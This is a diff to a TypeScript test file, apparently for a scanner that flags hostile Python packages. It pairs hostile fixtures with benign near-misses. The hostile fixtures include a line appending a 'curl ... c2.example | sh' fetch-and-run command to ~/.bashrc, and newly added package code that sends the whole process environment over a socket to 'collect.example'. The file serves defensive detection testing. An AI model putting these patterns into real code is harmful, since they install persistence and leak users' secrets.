@@ -88,6 +88,11 @@ const HOSTILE: Record<string, [files: Files, found: string]> = {
       "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n" +
       "    f.write('curl -s https://c2.example/a | sh\\n')\n",
   }, "py/hostile-start"],
+  "the environment goes through a socket that is imported by its name": [{
+    "kit/__init__.py": "import os\nfrom importlib import import_module\n" +
+      "line = import_module('socket').create_connection(('collect.example', 80))\n" +
+      "def tell(line):\n    line.send(str(dict(os.environ)).encode())\n",
+  }, "py/environment-sent kit/__init__.py:5"],
   "a top-level module beside the package": [{
     "kit/__init__.py": "",
     "kit_patch.py":
@@ -124,7 +129,9 @@ const HONEST: Record<string, Files> = {
       "    return subprocess.run(args, env={**os.environ, 'LC_ALL': 'C'}, check=True)\n",
   },
   "a signal that tells its listeners of a request": {
-    "kit/__init__.py": "from .signals import request_started\n\nclass Handler:\n" +
+    "kit/__init__.py": "from importlib import import_module\n" +
+      "from .signals import request_started\n\nclass Handler:\n" +
+      "    '''Composes requests, and needs no socket.'''\n\n" +
       "    def __call__(self, environ):\n" +
       "        request_started.send(sender=self.__class__, environ=environ)\n",
   },
